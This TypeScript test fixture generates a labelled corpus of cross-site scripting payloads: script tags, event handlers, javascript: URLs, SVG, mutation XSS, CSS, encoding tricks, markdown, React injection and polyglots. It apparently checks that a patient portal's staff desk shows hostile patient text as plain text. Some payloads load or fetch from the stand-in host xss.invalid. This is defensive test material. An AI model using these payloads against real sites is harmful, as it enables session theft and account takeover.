/**
 * Hostile text a patient (or anyone writing to the portal) could put in a name, a subject, a note or
 * a message body. Every payload, if the desk ever let it run, leaves evidence a browser test sees:
 * it calls `window.__xss('<label>')`, opens a dialog (alert/confirm/prompt), or requests
 * `http://xss.invalid/<label>`. Payloads that only ever ran in old browsers (CSS expression(),
 * vbscript:, UTF-7) are kept: the desk must show them as text all the same.
 */

export const XSS_FAMILIES = [
  'script',
  'event-handler',
  'url-scheme',
  'svg',
  'breakout',
  'head-element',
  'mutation',
  'css',
  'obfuscation',
  'markdown',
  'react',
  'long-nested',
  'polyglot',
] as const;
export type XssFamily = (typeof XSS_FAMILIES)[number];

export interface XssPayload {
  /** Unique, and the evidence the payload leaves names it. */
  label: string;
  family: XssFamily;
  text: string;
}

/** Where a payload that ran would call back, and where one that loaded something would reach. */
export const EVIDENCE_HOST = 'xss.invalid';

const hit = (label: string) => `__xss('${label}')`;
const url = (label: string) => `http://${EVIDENCE_HOST}/${label}`;
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const charCodes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(',');
const htmlDecimal = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
const htmlHex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()};`).join('');

type Maker = (label: string) => string;

const families: Record<XssFamily, Maker[]> = {
  script: [
    (l) => `<script>${hit(l)}</script>`,
    (l) => `<SCRIPT>${hit(l)}</SCRIPT>`,
    (l) => `<script src="${url(l)}"></script>`,
    (l) => `<script src=//${EVIDENCE_HOST}/${l}></script>`,
    (l) => `<script>alert('${l}')</script>`,
    (l) => `<scr<script>ipt>${hit(l)}</scr</script>ipt>`,
    (l) => `<script type="module">${hit(l)}</script>`,
    (l) => `"><script>${hit(l)}</script>`,
    (l) => `</textarea><script>${hit(l)}</script>`,
    (l) => `</title><script>${hit(l)}</script>`,
    (l) => `<script\ttype="text/javascript">${hit(l)};</script>`,
    (l) => `<script>/*</script><script>*/${hit(l)}</script>`,
    (l) => `<script>fetch('${url(l)}')</script>`,
    (l) => `<<script>${hit(l)};//<</script>`,
  ],
  'event-handler': [
    (l) => `<img src=x onerror="${hit(l)}">`,
    (l) => `<img src="${url(l)}">`,
    (l) => `<svg onload=${hit(l)}>`,
    (l) => `<body onload=${hit(l)}>`,
    (l) => `<details open ontoggle=${hit(l)}>`,
    (l) => `<input autofocus onfocus=${hit(l)}>`,
    (l) => `<video><source onerror="${hit(l)}"></video>`,
    (l) => `<audio src=x onerror=${hit(l)}>`,
    (l) => `<iframe onload=${hit(l)}></iframe>`,
    (l) => `<marquee onstart=${hit(l)}>news</marquee>`,
    (l) => `<div onmouseover="${hit(l)}" style="position:fixed;inset:0">hover</div>`,
    (l) => `<select autofocus onfocus=${hit(l)}>`,
    (l) => `<textarea autofocus onfocus=${hit(l)}>`,
    (l) => `<img src=x:x onerror=eval(atob('${base64(hit(l))}'))>`,
    (l) => `<object data=x onerror=${hit(l)}>`,
    (l) => `<style onload=${hit(l)}></style>`,
    (l) => `<img src=x onerror=alert('${l}')>`,
    (l) => `<body onpageshow=${hit(l)}>`,
  ],
  'url-scheme': [
    (l) => `<a href="javascript:${hit(l)}">Open your results</a>`,
    (l) => `<a href="JaVaScRiPt:${hit(l)}">click</a>`,
    (l) => `<a href="  javascript:${hit(l)}">click</a>`,
    (l) => `<a href="java&#x09;script:${hit(l)}">click</a>`,
    (l) => `<a href="vbscript:msgbox('${l}')">click</a>`,
    (l) => `<a href="data:text/html,<script>fetch('${url(l)}')</script>">click</a>`,
    (l) => `<iframe src="javascript:${hit(l)}"></iframe>`,
    (l) => `<iframe src="data:text/html;base64,${base64(`<script>fetch('${url(l)}')</script>`)}"></iframe>`,
    (l) => `<iframe srcdoc="<script>parent.${hit(l)}</script>"></iframe>`,
    (l) => `<form action="javascript:${hit(l)}"><button>Submit</button></form>`,
    (l) => `<form><button formaction="javascript:${hit(l)}">Go</button></form>`,
    (l) => `<object data="javascript:${hit(l)}"></object>`,
    (l) => `<embed src="javascript:${hit(l)}">`,
    (l) => `<embed src="${url(l)}">`,
    (l) => `<a href="${url(l)}" ping="${url(l)}-ping">link</a>`,
    (l) => `<math><a xlink:href="javascript:${hit(l)}">click</a></math>`,
    (l) => `<isindex action="javascript:${hit(l)}" type=image>`,
    (l) => `<form action="${url(l)}" method="post"><input name=q value=x></form>`,
    (l) => `<object data="data:text/html;base64,${base64(`<script>fetch('${url(l)}')</script>`)}"></object>`,
  ],
  svg: [
    (l) => `<svg><script>${hit(l)}</script></svg>`,
    (l) => `<svg><script href="${url(l)}"/></svg>`,
    (l) => `<svg><foreignObject><iframe srcdoc="<script>parent.${hit(l)}</script>"></iframe></foreignObject></svg>`,
    (l) => `<svg><foreignObject><img src=x onerror=${hit(l)}></foreignObject></svg>`,
    (l) => `<svg><a><animate attributeName=href values=javascript:${hit(l)} /><text x=20 y=20>Click</text></a></svg>`,
    (l) => `<svg><rect width=99 height=99><set attributeName="onmouseover" to="${hit(l)}"/></rect></svg>`,
    (l) => `<svg><animate onbegin=${hit(l)} attributeName=x dur=1s>`,
    (l) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${hit(l)}'/></svg>#x"/></svg>`,
    (l) => `<svg><use xlink:href="${url(l)}#x"/></svg>`,
    (l) => `<svg><image href="${url(l)}"/></svg>`,
    (l) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:${hit(l)}"><rect width="100" height="100"/></a></svg>`,
    (l) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${hit(l)}</handler></svg>`,
    (l) => `<svg><style>@import '${url(l)}';</style></svg>`,
    (l) => `<svg><filter><feImage href="${url(l)}"/></filter></svg>`,
    (l) => `<svg/onload=${hit(l)}>`,
    (l) => `<svg><desc><![CDATA[</desc><script>${hit(l)}</script>]]></svg>`,
  ],
  breakout: [
    (l) => `" onmouseover="${hit(l)}`,
    (l) => `' onfocus='${hit(l)}' autofocus='`,
    (l) => `"><img src=x onerror=${hit(l)}>`,
    (l) => `'><svg onload=${hit(l)}>`,
    (l) => `</p><img src=x onerror=${hit(l)}>`,
    (l) => `</li></ol><script>${hit(l)}</script>`,
    (l) => `--><script>${hit(l)}</script><!--`,
    (l) => `]]><script>${hit(l)}</script>`,
    (l) => `</style><script>${hit(l)}</script>`,
    (l) => `</noscript><img src=x onerror=${hit(l)}>`,
    (l) => `" autofocus onfocus="${hit(l)}" x="`,
    (l) => `\`-${hit(l)}-\``,
    (l) => `';${hit(l)};//`,
    (l) => `</script><script>${hit(l)}</script>`,
    (l) => `"};${hit(l)};//`,
  ],
  'head-element': [
    (l) => `<template><img src=x onerror=${hit(l)}></template>`,
    (l) => `<style>body{background:url(${url(l)})}</style>`,
    (l) => `<style>@import url("${url(l)}");</style>`,
    (l) => `<link rel=stylesheet href="${url(l)}">`,
    (l) => `<meta http-equiv="refresh" content="0;url=${url(l)}">`,
    (l) => `<meta http-equiv="refresh" content="0;url=javascript:${hit(l)}">`,
    (l) => `<base href="${url(l)}/"><img src=relative.png>`,
    (l) => `<base href="javascript:${hit(l)}//">`,
    (l) => `<link rel=import href="${url(l)}">`,
    (l) => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${hit(l)}</script>`,
    (l) => `<link rel=prefetch href="${url(l)}">`,
    (l) => `<link rel=preload as=script href="${url(l)}">`,
  ],
  mutation: [
    (l) => `<noscript><p title="</noscript><img src=x onerror=${hit(l)}>">`,
    (l) => `<svg></p><style><a id="</style><img src=1 onerror=${hit(l)}>">`,
    (l) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${hit(l)}&gt;">`,
    (l) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit(l)}>`,
    (l) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${hit(l)}>"></style></h1>`,
    (l) => `<svg><p><style><g title="</style><img src=x onerror=${hit(l)}>">`,
    (l) => `<listing>&lt;img src=x onerror=${hit(l)}&gt;</listing>`,
    (l) => `<img src="test.jpg" alt="\`\`onload=${hit(l)}">`,
    (l) => `<xmp><p title="</xmp><img src=x onerror=${hit(l)}>">`,
    (l) => `<noembed><img title="</noembed><img src onerror=${hit(l)}>"></noembed>`,
    (l) => `<iframe><p title="</iframe><img src=x onerror=${hit(l)}>"></iframe>`,
    (l) => `<textarea><p title="</textarea><img src=x onerror=${hit(l)}>">`,
  ],
  css: [
    (l) => `<div style="width:expression(${hit(l)})">x</div>`,
    (l) => `<div style="background:url(javascript:${hit(l)})">x</div>`,
    (l) => `<div style="background-image:url('${url(l)}')">x</div>`,
    (l) => `<style>*{x:expression(${hit(l)})}</style>`,
    (l) => `<div style="behavior:url(${url(l)})">x</div>`,
    (l) => `<div style="-moz-binding:url(${url(l)}#xss)">x</div>`,
    (l) => `<style>@font-face{font-family:x;src:url(${url(l)})}body{font-family:x}</style>`,
    (l) => `<div style="background:url(&#x6a;avascript:${hit(l)})">x</div>`,
    (l) => `<div style="x:\\65xpression(${hit(l)})">x</div>`,
    (l) => `<style>li{list-style:url("${url(l)}")}</style>`,
  ],
  obfuscation: [
    (l) => `&lt;script&gt;${hit(l)}&lt;/script&gt;`,
    (l) => `&#60;img src=x onerror=${hit(l)}&#62;`,
    (l) => `<a href="${htmlDecimal('javascript:')}${hit(l)}">x</a>`,
    (l) => `<a href="${htmlHex('javascript:')}${hit(l)}">x</a>`,
    (l) => `<img src=x onerror="${htmlDecimal('__')}xss('${l}')">`,
    (l) => `\\u003cscript\\u003e${hit(l)}\\u003c/script\\u003e`,
    (l) => `%3Cscript%3E${encodeURIComponent(hit(l))}%3C%2Fscript%3E`,
    (l) => `\uFF1Cscript\uFF1E${hit(l)}\uFF1C/script\uFF1E`,
    (l) => `<img src=x onerror=\\u005f\\u005fxss('${l}')>`,
    (l) => `<a href="jav\tascript:${hit(l)}">x</a>`,
    (l) => `<scr\u0130pt>${hit(l)}</scr\u0130pt>`,
    (l) => `<img src=x onerror=eval(String.fromCharCode(${charCodes(hit(l))}))>`,
    (l) => `\u202E<img src=x onerror=${hit(l)}>`,
    (l) => `<scr\u200Bipt>${hit(l)}</scr\u200Bipt>`,
    (l) => `<img src=x onerror=top['__x'+'ss']('${l}')>`,
    (l) => `+ADw-script+AD4-${hit(l)}+ADw-/script+AD4-`,
  ],
  markdown: [
    (l) => `[Open your lab results](javascript:${hit(l)})`,
    (l) => `[x](JaVaScRiPt:${hit(l)})`,
    (l) => `![img](${url(l)})`,
    (l) => `![x](x" onerror="${hit(l)})`,
    (l) => `[x](data:text/html;base64,${base64(`<script>fetch('${url(l)}')</script>`)})`,
    (l) => `<${url(l)}>`,
    (l) => `[x]: javascript:${hit(l)}\n[click][x]`,
    (l) => `[a](javascript&#58;${hit(l)})`,
    (l) => `\`<script>${hit(l)}</script>\``,
    (l) => `**<img src=x onerror=${hit(l)}>**`,
  ],
  react: [
    (l) => `{"__html":"<img src=x onerror=${hit(l)}>"}`,
    (l) => `{"dangerouslySetInnerHTML":{"__html":"<script>${hit(l)}</script>"}}`,
    (l) => `dangerouslySetInnerHTML={{__html: "<svg onload=${hit(l)}>"}}`,
    (l) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${hit(l)}"}}`,
    (l) => `{"type":"a","props":{"href":"javascript:${hit(l)}","children":"Open"}}`,
    (l) => `{{constructor.constructor('__xss("${l}")')()}}`,
    (l) => `\${${hit(l)}}`,
    (l) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${hit(l)}>"}}}`,
    (l) => `<div dangerouslySetInnerHTML={{"__html":"<img src=x onerror=alert('${l}')>"}} />`,
  ],
  'long-nested': [
    (l) => `${'<div>'.repeat(500)}<img src=x onerror=${hit(l)}>${'</div>'.repeat(500)}`,
    (l) => `${'A'.repeat(20_000)}<script>${hit(l)}</script>`,
    (l) => `${'<svg>'.repeat(200)}<svg onload=${hit(l)}>`,
    (l) => `${`"'`.repeat(1000)}><img src=x onerror=${hit(l)}>`,
    (l) => `${'['.repeat(2000)}x](javascript:${hit(l)})`,
    (l) => `<a href="javascript:${'/*'.repeat(1000)}${'*/'.repeat(1000)}${hit(l)}">x</a>`,
    (l) => `${'<b><i>'.repeat(1000)}<img src=x onerror=${hit(l)}>${'</i></b>'.repeat(1000)}`,
  ],
  polyglot: [
    (l) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${hit(l)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${hit(l)}//>\\x3e`,
    (l) =>
      `'">><marquee><img src=x onerror=confirm('${l}')></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt('${l}')><script>prompt('${l}')</script>@gmail.com<isindex formaction=javascript:alert('${l}') type=submit>'-->"></script><script>alert('${l}')</script>">`,
    (l) => `-->'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)('${l}')>`,
    (l) => `"'--></style></script><svg onload=${hit(l)}>`,
    (l) =>
      `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${hit(l)}//>`,
    (l) => `<!--<img src="--><img src=x onerror=${hit(l)}//">`,
  ],
};

const SHORT_NAMES: Record<XssFamily, string> = {
  script: 'script',
  'event-handler': 'event',
  'url-scheme': 'url',
  svg: 'svg',
  breakout: 'breakout',
  'head-element': 'head',
  mutation: 'mxss',
  css: 'css',
  obfuscation: 'obf',
  markdown: 'md',
  react: 'react',
  'long-nested': 'long',
  polyglot: 'poly',
};

/** The whole corpus, in family order; labels like `svg-07`. */
export const XSS_CORPUS: readonly XssPayload[] = XSS_FAMILIES.flatMap((family) =>
  families[family].map((make, i) => {
    const label = `${SHORT_NAMES[family]}-${String(i + 1).padStart(2, '0')}`;
    return { label, family, text: make(label) };
  }),
);
